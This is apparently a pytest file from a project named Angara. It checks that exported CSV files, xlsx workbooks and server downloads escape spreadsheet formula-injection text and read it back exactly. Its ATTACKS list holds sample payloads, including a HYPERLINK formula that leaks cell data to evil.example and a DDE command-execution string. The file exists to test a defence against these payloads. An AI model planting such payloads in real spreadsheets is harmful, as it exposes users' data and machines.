"""Exports never hand a spreadsheet a formula ("CSV injection", OWASP): texts starting with
=, +, -, @, tab or CR are escaped with one quote in CSV files and are text cells in xlsx
workbooks, and everything Angara writes reads back to the same text."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pandas as pd
import pytest
from argon2 import PasswordHasher
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from angara.atomic import document_and_tables
from angara.cells import PLAIN_NUMBER, escaped, unescaped
from angara.plan.write import PLAN_FILE
from angara.report.workbook import results_workbook
from angara.results.read import read_plan_results, read_results
from angara.scenario.load import load
from angara.scenario.model import Scenario
from angara.scenario.read import read_folder
from angara.scenario.write import csv_text, write_folder, write_workbook
from angara.server.settings import ServerSettings
from angara.server.store import users
from angara.server.store.database import open_database
from angara.server.store.runs import create_run, save_results, set_status
from angara.server.store.scenarios import save_version
from angara.server.store.users import get_account
from tests.conftest import MINI, Result
from tests.server.api.conftest import Server, start

# what an attacker puts in a free-text cell: each runs as a formula in a spreadsheet unescaped
ATTACKS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice quoted",
)
# and texts that must come back exactly, escaped or not
HARMLESS = ("-5", "+1.5", "1e-3", "'", "''", "'plain", "a=b", "5 - 3")
TRIGGERS = "=+-@\t\r"


def _scenario_with_attacks(scenario: Scenario) -> Scenario:
    """The mini scenario with attack texts in the deposit's name, source and note, in the
    nodes' notes and in the scenario's title and description."""
    deposit = scenario.deposits[0].model_copy(
        update={"name": ATTACKS[0], "source": ATTACKS[1], "note": ATTACKS[2]}
    )
    nodes = tuple(
        node.model_copy(update={"note": text})
        for node, text in zip(scenario.nodes, ATTACKS[3:], strict=False)
    )
    meta = scenario.meta.model_copy(update={"title": ATTACKS[4], "description": ATTACKS[5]})
    return scenario.model_copy(
        update={"deposits": (deposit, *scenario.deposits[1:]), "nodes": nodes, "meta": meta}
    )


@pytest.fixture(scope="module")
def attacked() -> Scenario:
    return _scenario_with_attacks(load(MINI))


# --------------------------------------------------------------------------- the rule itself


@pytest.mark.parametrize("text", ATTACKS + HARMLESS)
def test_the_escape_is_undone_exactly(text: str) -> None:
    assert unescaped(escaped(text)) == text
    if text.lstrip("'")[:1] in tuple(TRIGGERS) and text not in ("-5", "+1.5"):
        assert escaped(text) == "'" + text  # a spreadsheet shows it as text
    else:
        assert escaped(text) == text  # numbers and plain texts are written as they are


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
# a NUL byte makes the file binary (refused); a lone surrogate is no UTF-8 (no file holds one)
@given(st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"])))
def test_any_text_survives_a_csv_file(tmp_path: Path, text: str) -> None:
    """The scenario's CSV writer and reader: the cell comes back exactly, and a spreadsheet
    never sees it start with a formula character (unless it is a plain number)."""
    written = csv_text([["id", "name"], [text, "x"]])
    (tmp_path / "deposits.csv").write_text(written, encoding="utf-8")
    raw = read_folder(tmp_path)
    assert raw.tables["deposits"].rows[0][1][:2] == [text, "x"]
    cell = list(csv.reader(io.StringIO(written, newline="")))[1][0]  # as a spreadsheet finds it
    assert not cell.startswith(tuple(TRIGGERS)) or PLAIN_NUMBER.fullmatch(cell)


# --------------------------------------------------------------------------- scenarios


def test_a_scenario_folder_escapes_its_texts_and_reads_back_the_same(
    attacked: Scenario, tmp_path: Path
) -> None:
    write_folder(attacked, tmp_path / "out")
    rows = list(csv.reader((tmp_path / "out" / "deposits.csv").open(encoding="utf-8", newline="")))
    header, first = rows[0], rows[1]
    assert first[header.index("name")] == "'" + ATTACKS[0]
    assert first[header.index("source")] == "'" + ATTACKS[1]
    assert first[header.index("note")] == "'" + ATTACKS[2]
    # numbers stay numbers: latitude and longitude are written plain
    assert first[header.index("lat")] == "58"
    assert load(tmp_path / "out") == attacked


def test_a_scenario_workbook_holds_texts_never_formulas(attacked: Scenario, tmp_path: Path) -> None:
    write_workbook(attacked, tmp_path / "attacked.xlsx")
    book = load_workbook(tmp_path / "attacked.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value: cell.data_type for cell in cells if isinstance(cell.value, str)}
    for text in ATTACKS[:6]:
        assert values[text] == "s", text
    assert load(tmp_path / "attacked.xlsx") == attacked


def test_convert_folder_to_workbook_and_back_is_lossless(
    attacked: Scenario, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    write_folder(attacked, tmp_path / "first")
    assert cli("convert", tmp_path / "first", tmp_path / "book.xlsx").code == 0
    assert cli("convert", tmp_path / "book.xlsx", tmp_path / "second").code == 0
    assert load(tmp_path / "second") == attacked
    for path in sorted((tmp_path / "first").glob("*.csv")):
        assert (tmp_path / "second" / path.name).read_text(encoding="utf-8") == path.read_text(
            encoding="utf-8"
        )


# free texts as the scenario keeps them (stripped) and as a workbook can hold them (no control
# characters openpyxl refuses; a lone CR becomes LF in any xlsx file, as XML reads it)
_spreadsheet_text = (
    st.tuples(
        st.sampled_from(["", "'", "''", *TRIGGERS, "'=", "''-", "'@"]), st.text(min_size=1, max_size=30)
    )
    .map("".join)
    .map(str.strip)
    .filter(lambda text: text != "" and ILLEGAL_CHARACTERS_RE.search(text) is None and "\r" not in text)
)


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(note=_spreadsheet_text, name=_spreadsheet_text)
def test_any_text_round_trips_through_folder_and_workbook(
    attacked: Scenario, tmp_path_factory: pytest.TempPathFactory, note: str, name: str
) -> None:
    deposit = attacked.deposits[0].model_copy(update={"name": name, "note": note})
    scenario = attacked.model_copy(update={"deposits": (deposit, *attacked.deposits[1:])})
    folder = tmp_path_factory.mktemp("round")
    write_folder(scenario, folder / "scenario")
    assert load(folder / "scenario").deposits[0] == deposit
    write_workbook(scenario, folder / "scenario.xlsx")
    assert load(folder / "scenario.xlsx").deposits[0] == deposit


# --------------------------------------------------------------------------- results


@pytest.fixture(scope="module")
def planned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``angara plan MINI --out folder``, once."""
    from angara.cli import main

    folder = tmp_path_factory.mktemp("plan") / "run"
    try:
        main(["plan", str(MINI), "--out", str(folder)])
    except SystemExit as stop:
        assert not stop.code
    return folder


def _attacked_results(planned: Path, target: Path) -> tuple[Path, pd.DataFrame]:
    """The plan's result folder rewritten by the result writer with attack texts in the
    ``process`` column of builds.csv; returns the folder and the table written."""
    shutil.copytree(planned, target)
    results = read_plan_results(planned)
    builds = results.tables["builds"].copy()
    builds["process"] = [ATTACKS[i % len(ATTACKS)] for i in range(len(builds))]
    tables = {name: frame for name, frame in results.tables.items() if name != "builds"}
    document = json.loads((planned / PLAN_FILE).read_text(encoding="utf-8"))
    document_and_tables(target, PLAN_FILE, document, {"builds": builds, **tables})
    return target, builds


def test_result_csv_files_are_neutralised_and_read_back(planned: Path, tmp_path: Path) -> None:
    folder, builds = _attacked_results(planned, tmp_path / "run")
    assert len(builds) > 0
    rows = list(csv.DictReader((folder / "builds.csv").open(encoding="utf-8", newline="")))
    assert [row["process"] for row in rows] == ["'" + text for text in builds["process"]]
    assert all(not row["process"].startswith(tuple(TRIGGERS)) for row in rows)
    # numeric columns are written as numbers, negative or not
    numeric = [c for c in builds.columns if pd.api.types.is_numeric_dtype(builds[c])]
    assert numeric and all(not rows[0][c].startswith("'") for c in numeric)
    again = read_plan_results(folder).tables["builds"]
    assert list(again["process"]) == list(builds["process"])


def test_the_results_workbook_holds_texts_never_formulas(planned: Path, tmp_path: Path) -> None:
    folder, _ = _attacked_results(planned, tmp_path / "run")
    book = load_workbook(io.BytesIO(results_workbook(read_results(folder))))
    sheet = book["builds"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("process") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert {cell.value for cell in cells} <= set(ATTACKS)
    assert [
        c.coordinate for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"
    ] == []


# --------------------------------------------------------------------------- server downloads


@pytest.fixture
def server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Server]:
    monkeypatch.setattr(users, "_hasher", PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1))
    yield from start(f"sqlite:///{tmp_path / 'angara.db'}", ServerSettings(workers=1))


def test_server_downloads_of_a_table_are_neutralised(server: Server, planned: Path, tmp_path: Path) -> None:
    folder, builds = _attacked_results(planned, tmp_path / "run")
    database = open_database(str(server.client.app.state.services.database.url))  # type: ignore[attr-defined]
    with database.session() as session:
        analyst = get_account(session, "analyst")
        save_version(session, "mini", load(MINI), analyst, "first")
        run = create_run(session, "plan", "mini", None, analyst, {})
        save_results(session, run.id, {"builds.csv": (folder / "builds.csv").read_bytes()})
        set_status(session, run.id, "done")
    database.close()
    viewer = server.headers("viewer")
    text = server.client.get(f"/api/runs/{run.id}/tables/builds", headers=viewer)
    assert text.status_code == 200
    served = list(csv.DictReader(io.StringIO(text.text)))
    assert [row["process"] for row in served] == ["'" + value for value in builds["process"]]
    xlsx = server.client.get(f"/api/runs/{run.id}/tables/builds?format=xlsx", headers=viewer)
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    cells = [sheet.cell(row, header.index("process") + 1) for row in range(2, sheet.max_row + 1)]
    assert [cell.value for cell in cells] == list(builds["process"])  # the text, without the CSV's quote
    assert all(cell.data_type == "s" for cell in cells)
